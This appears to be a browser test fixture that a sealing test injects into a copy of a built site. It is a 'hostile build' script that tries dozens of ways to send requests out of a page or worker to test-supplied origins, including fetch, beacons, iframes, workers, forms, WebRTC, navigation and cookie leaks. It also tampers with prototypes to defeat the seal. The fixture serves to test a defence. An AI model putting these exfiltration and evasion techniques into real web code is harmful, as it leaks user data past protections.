// What a hostile build would try: every way out of a page or a worker that tests/browser/seal.test.mjs knows, each with an
// address of its own. The test puts this text into a copy of the built site; it is no part of the site.
(() => {
  const inPage = typeof document === 'object';
  const element = (name, properties) => {
    const made = Object.assign(document.createElement(name), properties);
    (['LINK', 'SCRIPT', 'META'].includes(made.tagName) ? document.head : document.body).append(made);
    return made;
  };
  const blob = text => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));

  const anywhere = {
    fetch: url => fetch(url),
    fetchPost: url => fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }),
    xhr: url => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
    },
    webSocket: url => new WebSocket(url.replace('http', 'ws')),
    eventSource: url => new EventSource(url),
    dynamicImport: url => import(url),
    worker: url => new Worker(url),
    moduleWorker: url => new Worker(url, { type: 'module' }),
    nestedWorker: url => new Worker(blob(`fetch('${url}-fetch'); importScripts('${url}-script');`)),
    nestedTwice: url => new Worker(blob(`new Worker(URL.createObjectURL(new Blob(["fetch('${url}')"])))`)),
    font: url => new FontFace('x', `url(${url})`).load(),
    webTransport: url => new WebTransport(url.replace('http:', 'https:')),
  };
  const pageOnly = {
    beacon: url => navigator.sendBeacon(url, 'x'),
    image: url => (new Image().src = url),
    script: url => element('script', { src: url }),
    moduleScript: url => element('script', { src: url, type: 'module' }),
    style: url => element('link', { rel: 'stylesheet', href: url }),
    prefetch: url => element('link', { rel: 'prefetch', href: url }),
    preload: url => element('link', { rel: 'preload', as: 'fetch', href: url, crossOrigin: '' }),
    modulePreload: url => element('link', { rel: 'modulepreload', href: url }),
    manifest: url => element('link', { rel: 'manifest', href: url }),
    prerender: url => element('link', { rel: 'prerender', href: url }),
    background: url => (document.body.style.backgroundImage = `url(${url})`),
    audio: url => element('audio', { src: url }),
    video: url => element('video', { poster: url, src: `${url}-video` }),
    object: url => element('object', { data: url }),
    embed: url => element('embed', { src: url }),
    frame: url => element('iframe', { src: url }),
    frameFetch: url => element('iframe', {}).contentWindow.fetch(url),
    frameImage: url => (new (element('iframe', {}).contentWindow.Image)().src = url),
    form: url => element('form', { action: url, method: 'post', target: element('iframe', { name: 'hostile' }).name }).submit(),
    formHere: url => element('form', { action: url }).submit(),
    sharedWorker: url => new SharedWorker(url),
    serviceWorker: url => navigator.serviceWorker.register(url),
    ping: url => element('a', { href: `${location.pathname}#here`, ping: url }).click(),
    svgImage: url => {
      const picture = `<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>`;
      new Image().src = URL.createObjectURL(new Blob([picture], { type: 'image/svg+xml' }));
    },
  };
  /** Leaving the page takes what it says along; only browsers with the Navigation API can be kept from it. */
  const leaving = {
    location: url => (location.href = url),
    replace: url => location.replace(url),
    anchor: url => element('a', { href: url }).click(),
    download: url => element('a', { href: url, download: 'x' }).click(),
    refresh: url => element('meta', { httpEquiv: 'refresh', content: `0; url=${url}` }),
    // As a file that is saved, and at once as a page.
    blobSaved: url => {
      const link = element('a', { href: page(`<meta http-equiv="refresh" content="0; url=${url}">`), download: 'x' });
      link.click();
      location.href = link.href;
    },
    blobPage: url => (location.href = page(`<meta http-equiv="refresh" content="0; url=${url}">`)),
  };
  const page = html => URL.createObjectURL(new Blob([html], { type: 'text/html' }));

  /** What is made before the seal, to be used after it, and what is changed so that the seal would fail. */
  const early = [];
  const prepare = {
    worker: () => {
      const worker = new Made(blob(own));
      early.push((to, way) => worker.postMessage({ hostile: [to], when: way }));
    },
    sharedWorker: () => {
      const text = 'onconnect = ({ ports: [port] }) => (port.onmessage = ({ data }) => fetch(data))';
      const { port } = new SharedWorker(blob(text));
      early.push((to, way) => port.postMessage(`${to}/leak/${way}`));
    },
    frame: () => {
      const inner = element('iframe', {}).contentWindow;
      const { fetch, Image } = inner;
      early.push((to, way) => fetch.call(inner, `${to}/leak/${way}`));
      early.push((to, way) => (new Image().src = `${to}/leak/${way}-image`));
    },
    frameOfRoot: () => {
      const inner = document.documentElement.appendChild(document.createElement('iframe')).contentWindow;
      early.push((to, way) => inner.fetch(`${to}/leak/${way}`));
    },
    frameWorker: () => {
      const inner = element('iframe', {}).contentWindow;
      const worker = new inner.Worker(blob(own));
      early.push((to, way) => worker.postMessage({ hostile: [to], when: way }));
    },
    hiddenFrame: () => {
      // With the functions of a frame, which nobody has changed.
      const { attachShadow } = element('iframe', {}).contentWindow.Element.prototype;
      const root = attachShadow.call(element('div', {}), { mode: 'closed' });
      const inner = root.appendChild(document.createElement('iframe')).contentWindow;
      early.push((to, way) => inner.fetch(`${to}/leak/${way}`));
    },
    listener: () => {
      for (const capture of [true, false]) globalThis.navigation.addEventListener('navigate', event => event.stopImmediatePropagation(), capture);
    },
    originals: () => {
      Event.prototype.preventDefault = () => {};
      Object.defineProperty(globalThis, 'navigation', { value: new EventTarget() });
      Object.defineProperty(Event.prototype, 'cancelable', { get: () => false });
      globalThis.fetch = () => Promise.reject(new TypeError());
      Document.prototype.createElement = new Proxy(Document.prototype.createElement, {
        apply: (make, on, [name]) => make.call(on, name === 'meta' ? 'div' : name),
      });
    },
  };

  const attempt = async (ways, where, to) => {
    for (const [way, go] of Object.entries(ways)) {
      // One after the other, so that a browser's limit of connections does not hide any.
      await new Promise(resolve => setTimeout(resolve, 20));
      try {
        Promise.resolve(go(`${to}/leak/${where}/${way}`)).catch(() => {});
      } catch {
        // Refused at once.
      }
    }
  };

  if (!inPage) {
    addEventListener('message', event => {
      if (!event.data?.hostile) return;
      event.stopImmediatePropagation();
      for (const to of event.data.hostile) attempt(anywhere, `worker-${event.data.when}`, to);
    });
    return;
  }
  const own = document.currentScript.textContent;
  const workers = [];
  const Made = Worker;
  globalThis.Worker = class extends Made {
    constructor(...words) {
      super(...words);
      workers.push(this);
    }
  };
  globalThis.hostile = {
    ways: Object.keys({ ...anywhere, ...pageOnly }),
    /** All that can be made now; gives the names of what could not. */
    prepare(left = []) {
      const ways = Object.entries(prepare).filter(([way]) => !left.includes(way));
      return ways.filter(([, make]) => {
        try {
          make();
          return false;
        } catch {
          return true;
        }
      }).map(([way]) => way);
    },
    useEarly(origins) {
      for (const to of origins) {
        early.forEach((use, index) => {
          try {
            Promise.resolve(use(to, `early-${index}`)).catch(() => {});
          } catch {
            // It has ended.
          }
        });
      }
    },
    /** What the browser would send along with a request of its own. */
    async cookie() {
      document.cookie = 'leak=cookie';
      await globalThis.cookieStore?.set('leak', 'store').catch(() => {});
      const registration = await navigator.serviceWorker?.getRegistration();
      await registration?.navigationPreload?.setHeaderValue('leak').catch(() => {});
      await registration?.navigationPreload?.enable().catch(() => {});
      await registration?.update().catch(() => {});
    },
    /** Connections without a request: early ones, and WebRTC. */
    connect(to, udp) {
      element('link', { rel: 'preconnect', href: to });
      element('link', { rel: 'dns-prefetch', href: to });
      const Connection = globalThis.RTCPeerConnection ?? globalThis.keptConnection;
      const connection = new Connection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
      connection.createDataChannel('leak');
      connection.createOffer().then(offer => connection.setLocalDescription(offer)).catch(() => {});
    },
    workers,
    attack(origins, when) {
      for (const worker of workers) worker.postMessage({ hostile: origins, when });
      for (const to of origins) attempt({ ...anywhere, ...pageOnly }, `page-${when}`, to);
    },
    /** The same from a worker of its own, made before the seal. */
    attackFromWorker(origins, when) {
      new Made(blob(own)).postMessage({ hostile: origins, when });
    },
    leave(to) {
      attempt(leaving, 'leaving', to);
    },
  };
})();
